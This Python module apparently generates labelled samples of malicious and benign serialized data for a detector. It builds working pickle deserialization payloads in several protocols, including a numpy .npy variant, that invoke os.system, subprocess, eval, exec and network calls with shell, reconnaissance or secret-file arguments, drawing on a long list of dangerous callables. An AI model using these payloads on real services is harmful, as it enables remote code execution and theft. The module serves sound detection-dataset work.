"""Python pickles (protocols 0 to 4, pickletools), PyYAML tags, jsonpickle and eval of builtins."""

import json
import struct

from . import grammar, java, lexicon, places

CALLABLES = (("posix", "system"), ("os", "system"), ("nt", "system"), ("os", "popen"), ("subprocess", "Popen"), ("subprocess", "check_output"), ("subprocess", "getoutput"), ("subprocess", "call"), ("builtins", "eval"), ("builtins", "exec"), ("__builtin__", "eval"), ("__builtin__", "exec"), ("commands", "getoutput"), ("builtins", "getattr"),
             ("pty", "spawn"), ("runpy", "_run_code"), ("webbrowser", "open"), ("importlib", "import_module"), ("builtins", "__import__"), ("shutil", "rmtree"), ("socket", "create_connection"), ("timeit", "timeit"), ("platform", "popen"), ("urllib.request", "urlopen"), ("code", "interact"), ("types", "CodeType"),
             ("os", "execv"), ("os", "execl"), ("os", "spawnl"), ("os", "spawnv"), ("os", "remove"), ("os", "putenv"), ("posix", "popen"), ("posixpath", "join"), ("subprocess", "run"), ("subprocess", "getstatusoutput"), ("subprocess", "check_call"), ("commands", "getstatusoutput"), ("builtins", "open"), ("builtins", "compile"), ("builtins", "map"), ("builtins", "apply"), ("__builtin__", "file"), ("__builtin__", "apply"), ("__builtin__", "execfile"), ("__builtin__", "getattr"), ("__builtin__", "globals"),
             ("__main__", "app"), ("sys", "exit"), ("marshal", "loads"), ("pickle", "loads"), ("cPickle", "loads"), ("base64", "b64decode"), ("ctypes", "CDLL"), ("cProfile", "run"), ("pdb", "run"), ("bdb", "Bdb"), ("asyncio.unix_events", "_UnixSubprocessTransport"), ("profile", "Profile"), ("doctest", "debug_script"), ("trace", "run"), ("code", "InteractiveInterpreter"), ("pip", "main"), ("pip._internal", "main"), ("numpy.testing._private.utils", "runstring"), ("numpy.f2py.crackfortran", "getlincoef"), ("torch.serialization", "load"), ("distutils.spawn", "spawn"),
             ("shutil", "copyfile"), ("smtplib", "SMTP"), ("http.client", "HTTPSConnection"), ("requests.api", "get"), ("urllib2", "urlopen"), ("operator", "attrgetter"), ("operator", "methodcaller"), ("functools", "partial"), ("logging.config", "listen"), ("tempfile", "mkstemp"), ("site", "main"), ("idlelib.pyshell", "ModifiedInterpreter"), ("lib2to3.pgen2.grammar", "Grammar"), ("aiohttp", "request"), ("pydoc", "pipepager"), ("guess", "Guess"))


def argument(rng, module, name):
    common = grammar.load("common")
    if name in ("eval", "exec", "_run_code", "timeit", "compile", "run", "runstring", "debug_script", "getlincoef", "execfile"):
        return grammar.load("python").expand("expression", rng)
    if name in ("urlopen", "HTTPSConnection", "get", "SMTP") or name == "open" and module == "webbrowser":
        return f"http://{lexicon.hostport(rng)}/{lexicon.word(rng)}"
    if name in ("open", "file", "remove", "copyfile", "CDLL", "interact", "rmtree"):
        return common.expand("secret", rng)
    return common.expand("unixcmd" if rng.random() < 0.6 else "recon", rng)


def string(text, rng):
    """One of the opcodes that push a text: STRING, UNICODE, SHORT_BINSTRING, BINSTRING, BINUNICODE, SHORT_BINUNICODE, BINUNICODE8, BINBYTES."""
    raw = text.encode("utf-8", "replace")
    draw = rng.random()
    if draw < 0.2:
        return b"S" + rng.choice((repr(text).encode("utf-8", "replace"), b"'" + raw + b"'", b'"' + raw + b'"')) + b"\n"
    if draw < 0.32:
        return b"V" + text.encode("raw_unicode_escape").replace(b"\n", b"\\u000a") + b"\n"
    if draw < 0.36:
        return b"V" + "".join(f"\\u{ord(char):04x}" for char in text).encode() + b"\n"
    if draw < 0.5 and len(raw) < 256:
        return rng.choice((b"U", b"\x8c", b"\x8c", b"C")) + bytes([len(raw)]) + raw
    if draw < 0.6:
        return b"\x8d" + struct.pack("<Q", len(raw)) + raw
    return rng.choice((b"X", b"X", b"T", b"B")) + struct.pack("<I", len(raw)) + raw


def memo(rng, number):
    return rng.choice((b"", b"", f"p{number}\n".encode(), b"q" + bytes([number]), b"\x94", b"r" + struct.pack("<I", number)))


def wild(rng):
    """A pickle as one writes it by hand: any opcodes that reach a call, between values that mean nothing."""
    module, name = rng.choice(CALLABLES)
    text = argument(rng, module, name)
    number = rng.randint(0, 9)
    head = rng.choice((b"", b"", b"", bytes([0x80, rng.randint(2, 5)]), bytes([0x80, 4, 0x95]) + struct.pack("<Q", len(text) + 40)))
    filler = rng.choice((b"", b"", b"", b"N0", b"I1\n0", b"K\x010", b"(dp9\n0", b"]q\x050", b"}0", b"\x880", b"F1.5\n0", b"L5L\n0", b"I01\n0", b"(l0", b")0", b"J\x01\x00\x00\x000", b"M\x10\x270", string(lexicon.word(rng), rng) + b"0"))
    dotted = rng.choice((name, name, name, f"{name}.__call__", f"{name}.__class__"))
    found = rng.choice((f"c{module}\n{name}\n".encode(), f"c{module}\n{name}\n".encode(), string(module, rng) + string(dotted, rng) + b"\x93"))
    values = string(text, rng) if rng.random() < 0.7 else b"(" + string(rng.choice(("sh", "bash", "/bin/sh")), rng) + string("-c", rng) + string(text, rng) + rng.choice((b"l", b"t"))
    draw = rng.random()
    if draw < 0.35:
        call = found + memo(rng, number) + b"(" + values + memo(rng, number + 1) + b"t" + memo(rng, number + 2) + b"R" + memo(rng, number + 3)
    elif draw < 0.55:
        call = found + memo(rng, number) + values + memo(rng, number + 1) + b"\x85" + memo(rng, number + 2) + b"R" + memo(rng, number + 3)
    elif draw < 0.65:
        call = b"(" + values + f"i{module}\n{name}\n".encode() + memo(rng, number)
    elif draw < 0.73:
        call = b"(" + found + values + b"o"
    elif draw < 0.8:
        call = found + rng.choice((b")", b"(" + values + b"t")) + b"\x81" + rng.choice((b"", b"}" + string(lexicon.ident(rng), rng) + values + b"sb"))
    elif draw < 0.88:
        call = f"c__main__\n{lexicon.ident(rng)}\n".encode() + b")\x81}" + b"(" + string("__setstate__", rng) + found + b"ub" + values + b"b"
    elif draw < 0.94:
        call = b"(" + string(lexicon.ident(rng), rng) + f"c{module}\n{name}\n".encode() + b"(" + values + b"tRd"
    else:
        call = b"cbuiltins\ngetattr\n(c__builtin__\n__import__\n(" + string(module, rng) + b"tR" + string(name, rng) + b"tR(" + values + b"tR"
    return head + filler + call + rng.choice((b".", b".", b".", b"0.", b"N.", b""))


def holder(rng):
    """A pickle of an ordinary instance or a dictionary of a session: another shape that ends in the same opcodes."""
    pairs = b"".join(string(lexicon.ident(rng), rng) + rng.choice((string(lexicon.word(rng), rng), b"K" + bytes([rng.randint(0, 255)]), b"\x88", b"N", b"I" + str(rng.randint(0, 9999)).encode() + b"\n")) for _ in range(rng.randint(1, 4)))
    module, name = rng.choice(CALLABLES)
    inner = string(lexicon.ident(rng), rng) + f"c{module}\n{name}\n".encode() + string(argument(rng, module, name), rng) + b"\x85R"
    return rng.choice((b"\x80\x02", b"\x80\x03", b"\x80\x04", b"", b"\x80\x05")) + b"}" + memo(rng, 0) + b"(" + pairs + inner + b"u."


def numpy_file(rng):
    """The .npy format with an array of objects, whose data are a pickle."""
    head = ("{'descr': '|O', 'fortran_order': False, 'shape': (%d,), }" % rng.randint(1, 9)).ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head.encode() + stream(rng, rng.randint(2, 4))


def stream(rng, protocol):
    """The opcodes of a call: GLOBAL or STACK_GLOBAL, its argument, TUPLE1, REDUCE, STOP."""
    draw = rng.random()
    if draw < 0.35:
        return wild(rng)
    if draw < 0.42:
        return holder(rng)
    module, name = rng.choice(CALLABLES)
    text = argument(rng, module, name)
    if protocol == 0:
        memo = rng.random() < 0.6
        p = (lambda n: f"p{n}\n") if memo else (lambda n: "")
        literal = repr(text)
        draw = rng.random()
        if draw < 0.5:
            return f"c{module}\n{name}\n{p(0)}({rng.choice(('S', 'V'))}{literal if draw < 0.4 else text}\n{p(1)}t{p(2)}R{p(3)}.".encode("utf-8", "replace")
        if draw < 0.8:
            return f"(S{literal}\ni{module}\n{name}\n{p(0)}.".encode("utf-8", "replace")
        return f"(c{module}\n{name}\nS{literal}\no.".encode("utf-8", "replace")
    raw = text.encode("utf-8", "replace")
    if protocol < 4:
        return bytes([0x80, protocol]) + f"c{module}\n{name}\n".encode() + b"q\x00X" + struct.pack("<I", len(raw)) + raw + b"q\x01\x85q\x02Rq\x03."
    short = lambda b: b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b
    body = short(module.encode()) + b"\x94" + short(name.encode()) + b"\x94\x93\x94" + short(raw) + b"\x94\x85\x94R\x94."
    return bytes([0x80, protocol]) + b"\x95" + struct.pack("<Q", len(body)) + body


def plain(rng):
    """A pickle's look-alike that holds no call: other bytes."""
    return java.blob(rng)


def value(attack, rng):
    draw = rng.random()
    if not attack:
        if draw < 0.1:
            return java.jwt(rng)
        if draw < 0.28:
            return java.dressed(java.blob(rng), rng)
        if draw < 0.5:
            return java.dressed(ordinary(rng).encode(), rng)
        return grammar.load("python").expand("twin", rng)
    if draw < 0.6:
        protocol = rng.choice((0, 0, 0, 0, 1, 2, 3, 4, 4, 5))
        raw = numpy_file(rng) if rng.random() < 0.03 else stream(rng, protocol)
        if protocol == 0 and raw.isascii() and rng.random() < 0.4:
            return raw.decode()
        return java.dressed(raw, rng)
    out = grammar.load("python").expand("attack", rng)
    return java.dressed(out.encode("utf-8", "replace"), rng) if rng.random() < 0.12 else out


def ordinary(rng):
    """What frameworks keep in cookies, and lines that read like a pickle's: JSON, CSV, short codes, YAML."""
    return rng.choice((lambda: json.dumps({lexicon.ident(rng): rng.choice((lexicon.word(rng), rng.randint(0, 9999), True, None, [lexicon.word(rng)])) for _ in range(rng.randint(1, 5))}),
                       lambda: json.dumps({"_fresh": True, "_id": lexicon.hextoken(rng), "_user_id": str(rng.randint(1, 9999)), "csrf_token": lexicon.hextoken(rng)}, separators=(",", ":")),
                       lambda: grammar.load("python").expand("twin", rng), lambda: grammar.load("common").expand("prose", rng), lambda: f"{lexicon.email(rng)}:{lexicon.token(rng)}", lambda: "\n".join(lexicon.word(rng) for _ in range(rng.randint(2, 6))),
                       lambda: f"c{lexicon.word(rng)}\n{lexicon.word(rng)}\n(S'{lexicon.english(rng)}'\n", lambda: f"{lexicon.word(rng)}\r\n{lexicon.word(rng)} {lexicon.host(rng)}", lambda: f"next={lexicon.word(rng)}&page={rng.randint(1, 99)}", lambda: f"https://{lexicon.host(rng)}/{lexicon.word(rng)}"))()


def put(attack, carrier, rng):
    if rng.random() > 0.08 or places.has_body(carrier):
        return ""
    raw = stream(rng, rng.randint(0, 4)) if attack else plain(rng)
    places.give(carrier, rng.choice(("application/octet-stream", "application/x-pickle" if attack else "application/octet-stream", "application/python-pickle" if attack else "image/png")), raw, rng)
    return "raw"
